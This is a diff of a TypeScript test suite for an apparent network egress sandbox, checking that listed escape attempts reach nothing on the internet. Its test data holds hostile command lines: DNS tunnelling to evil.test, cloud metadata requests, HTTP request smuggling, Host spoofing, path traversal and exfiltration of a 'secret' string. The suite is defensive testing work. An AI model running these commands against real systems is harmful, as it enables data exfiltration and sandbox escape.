@@ -31,34 +31,77 @@ const SILENT: readonly (readonly [string, string])[] = [
   ["an address in the place of a name", `curl -sk -m 4 https://${SITES.forbidden}/; curl -s -m 4 http://1.2.3.4/`],
   ["an allowed name's address in the place of the name", `curl -sk -m 4 https://${SITES.allowed}/v1/x`],
   ["a name that no rule has", "curl -sk -m 4 https://forbidden.test/; curl -sk -m 4 https://allowed.test/"],
-  ["an allowed name, resolved by the app itself", `curl -sk -m 4 --resolve api.allowed.test:443:${SITES.allowed} https://api.allowed.test/v1/x`],
+  [
+    "an allowed name, resolved by the app itself",
+    `curl -sk -m 4 --resolve api.allowed.test:443:${SITES.allowed} https://api.allowed.test/v1/x`,
+  ],
   ["a forbidden name in the ClientHello at an allowed name's address", virtual("forbidden.test")],
   ["no name in the ClientHello", virtual("", "-noservername")],
   ["another allowed name in the ClientHello", virtual("a.wild.test")],
-  ["bytes that are no TLS", "V=$(addr api.allowed.test); printf 'GET /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n' | nc -w 3 $V 443"],
+  [
+    "bytes that are no TLS",
+    "V=$(addr api.allowed.test); printf 'GET /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n' | nc -w 3 $V 443",
+  ],
   ["a resolver of its own, over UDP", `nslookup forbidden.test ${RESOLVER}; nslookup api.allowed.test 8.8.8.8`],
-  ["a resolver of its own, over TCP", `curl -s -m 3 telnet://${RESOLVER}:53 </dev/null; curl -s -m 3 telnet://${RESOLVER}:853 </dev/null`],
-  ["a tunnel through questions", "nslookup -type=txt secret.evil.test; nslookup c2VjcmV0.api.allowed.test; nslookup a.b.wild.test"],
-  ["other kinds of question about allowed names", "nslookup -type=txt api.allowed.test; nslookup -type=any api.allowed.test; nslookup -type=65 api.allowed.test"],
+  [
+    "a resolver of its own, over TCP",
+    `curl -s -m 3 telnet://${RESOLVER}:53 </dev/null; curl -s -m 3 telnet://${RESOLVER}:853 </dev/null`,
+  ],
+  [
+    "a tunnel through questions",
+    "nslookup -type=txt secret.evil.test; nslookup c2VjcmV0.api.allowed.test; nslookup a.b.wild.test",
+  ],
+  [
+    "other kinds of question about allowed names",
+    "nslookup -type=txt api.allowed.test; nslookup -type=any api.allowed.test; nslookup -type=65 api.allowed.test",
+  ],
   ["UDP", outOf("udp", SITES.allowed, "443", "53", "123", "4500")],
-  ["UDP to an allowed name's address", "V=$(addr api.allowed.test); python3 -c \"import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);[s.sendto(b'secret',('$V',p)) for p in (443,53,123)]\""],
+  [
+    "UDP to an allowed name's address",
+    "V=$(addr api.allowed.test); python3 -c \"import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);[s.sendto(b'secret',('$V',p)) for p in (443,53,123)]\"",
+  ],
   ["ICMP", `ping -c 1 -W 1 ${SITES.allowed}`],
   ["IPv6", "curl -sgk -m 3 'https://[2001:db8::1]/'; curl -sgk -m 3 'https://[::ffff:11.0.1.20]/'"],
   ["a port that no rule has", "curl -sk -m 3 https://api.allowed.test:8443/; curl -s -m 3 http://api.allowed.test/"],
-  ["a port that only another rule has", "curl -s -m 3 http://api.allowed.test:8080/v1/x; curl -sk -m 3 https://plain.test/ok; curl -s -m 3 telnet://api.allowed.test:22 </dev/null"],
-  ["the cloud's metadata", `curl -s -m 3 http://${METADATA}/; curl -s -m 3 http://168.63.129.16/; curl -s -m 3 http://168.63.129.16:32526/`],
+  [
+    "a port that only another rule has",
+    "curl -s -m 3 http://api.allowed.test:8080/v1/x; curl -sk -m 3 https://plain.test/ok; curl -s -m 3 telnet://api.allowed.test:22 </dev/null",
+  ],
+  [
+    "the cloud's metadata",
+    `curl -s -m 3 http://${METADATA}/; curl -s -m 3 http://168.63.129.16/; curl -s -m 3 http://168.63.129.16:32526/`,
+  ],
   ["an address that a rule has, on another port", "curl -s -m 3 telnet://11.0.1.50:25 </dev/null"],
   ["another Host than the name", "curl -sk -m 4 -H 'Host: forbidden.test' https://api.allowed.test/v1/x"],
   ["another Host in plain HTTP", "curl -s -m 4 -H 'Host: forbidden.test' http://plain.test/ok"],
-  ["a method that the rule has not", "curl -sk -m 4 -X DELETE https://api.allowed.test/v1/x; curl -sk -m 4 -X POST http://plain.test/ok"],
-  ["a path that the rule has not", "curl -sk -m 4 https://api.allowed.test/v2/x; curl -sk -m 4 --path-as-is https://api.allowed.test/v1/../x; curl -sk -m 4 https://api.allowed.test/v1/%2e%2e/x; curl -s http://plain.test/ok/x"],
-  ["an absolute target", PYTHON_RAW("GET https://forbidden.test/v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n")],
+  [
+    "a method that the rule has not",
+    "curl -sk -m 4 -X DELETE https://api.allowed.test/v1/x; curl -sk -m 4 -X POST http://plain.test/ok",
+  ],
+  [
+    "a path that the rule has not",
+    "curl -sk -m 4 https://api.allowed.test/v2/x; curl -sk -m 4 --path-as-is https://api.allowed.test/v1/../x; curl -sk -m 4 https://api.allowed.test/v1/%2e%2e/x; curl -s http://plain.test/ok/x",
+  ],
+  [
+    "an absolute target",
+    PYTHON_RAW("GET https://forbidden.test/v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n"),
+  ],
   ["CONNECT", PYTHON_RAW("CONNECT forbidden.test:443 HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n")],
   ["two Hosts", PYTHON_RAW("GET /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nHost: forbidden.test\\r\\n\\r\\n")],
   ["no Host", PYTHON_RAW("GET /v1/x HTTP/1.1\\r\\n\\r\\n")],
-  ["two lengths", PYTHON_RAW("POST /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /v2/secret HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n")],
+  [
+    "two lengths",
+    PYTHON_RAW(
+      "POST /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /v2/secret HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n",
+    ),
+  ],
   ["a folded header", PYTHON_RAW("GET /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nA: b\\r\\n c\\r\\n\\r\\n")],
-  ["an upgrade that the rule has not", PYTHON_RAW("GET /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n")],
+  [
+    "an upgrade that the rule has not",
+    PYTHON_RAW(
+      "GET /v1/x HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n",
+    ),
+  ],
   ["HTTP/2 without asking", PYTHON_RAW("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")],
   ["the gate itself", "for p in 1 22 80 8443 9229 32768; do curl -s -m 2 telnet://10.200.0.1:$p </dev/null; done"],
 ];
@@ -94,7 +137,8 @@ for (const { driver, skip, note } of DRIVERS) {
     beforeEach(async () => void (await internet.seen()));
     afterEach(async () => internet.resolve("api.allowed.test", [SITES.allowed]));
 
-    const run = (script: string) => box.sh(`addr() { nslookup $1 | awk '/^Address/ {a=$NF} END {print a}'; }\n${script}`);
+    const run = (script: string) =>
+      box.sh(`addr() { nslookup $1 | awk '/^Address/ {a=$NF} END {print a}'; }\n${script}`);
     const reached = (seen: readonly Seen[]) => seen.map(({ kind, to, what }) => `${kind} ${to} ${what}`);
 
     test.each(SILENT)("%s: nothing reaches the internet", async (_name, script) => {
@@ -123,17 +167,24 @@ for (const { driver, skip, note } of DRIVERS) {
         `curl -sk -m 3 https://${SITES.forbidden}/`,
         `curl -s -m 3 http://${SITES.allowed}/`,
         `ip addr add ${SITES.allowed}/32 dev lo`,
-        `nslookup x.evil.test ${RESOLVER}`,
-        `ping -c 1 -W 1 ${SITES.allowed}`,
+        `busybox nslookup x.evil.test ${RESOLVER}`,
+        `busybox ping -c 1 -W 1 ${SITES.allowed}`,
+        "ip address show",
       ];
-      await inAppNetwork(box.pid, scripts.join("; "));
+      expect(inAppNetwork(box.pid, scripts.join("; "))).toContain("203.0.113.99");
       expect(reached(await internet.seen())).toEqual([]);
     });
 
     test.each([
       ["curl", "curl -s -m 10 https://api.allowed.test/v1/curl"],
-      ["Python's urllib", "python3 -c \"import urllib.request as u; print(u.urlopen('https://api.allowed.test/v1/urllib').read().decode())\""],
-      ["Python's requests", "python3 -c \"import requests; print(requests.get('https://api.allowed.test/v1/requests').text)\""],
+      [
+        "Python's urllib",
+        "python3 -c \"import urllib.request as u; print(u.urlopen('https://api.allowed.test/v1/urllib').read().decode())\"",
+      ],
+      [
+        "Python's requests",
+        "python3 -c \"import requests; print(requests.get('https://api.allowed.test/v1/requests').text)\"",
+      ],
       ["Node's fetch", "node -e \"fetch('https://api.allowed.test/v1/fetch').then(r=>r.text()).then(console.log)\""],
     ])("%s reaches an allowed host, whose certificate the box verified", async (_name, script) => {
       const { out, err } = await run(script);
@@ -154,7 +205,9 @@ for (const { driver, skip, note } of DRIVERS) {
       // Longer than any answer of DNS may be kept.
       await run("sleep 2");
       await internet.seen();
-      const { out } = await run("curl -sk -m 10 -o /dev/null -w '%{http_code}' -d secret https://api.allowed.test/v1/x");
+      const { out } = await run(
+        "curl -sk -m 10 -o /dev/null -w '%{http_code}' -d secret https://api.allowed.test/v1/x",
+      );
       expect(out).toBe("502");
       const seen = await internet.seen();
       expect(seen.filter(({ kind }) => kind === "http" || kind === "bytes")).toEqual([]);
@@ -206,7 +259,9 @@ for (const { driver, skip, note } of DRIVERS) {
 
     test("the ledger holds what was allowed and what was refused, and not one word of the app's", async () => {
       const secret = "ZXhmaWx0cmF0ZWQ";
-      await run(`nslookup ${secret}.evil.test; curl -sk -m 4 https://${secret}.wild.test/${secret}; curl -sk -m 4 https://api.allowed.test/v9/${secret}`);
+      await run(
+        `nslookup ${secret}.evil.test; curl -sk -m 4 https://${secret}.wild.test/${secret}; curl -sk -m 4 https://api.allowed.test/v9/${secret}`,
+      );
       const text = JSON.stringify(await box.order("ledger"));
       expect(text).toContain("*.wild.test");
       expect(text).not.toContain(secret);
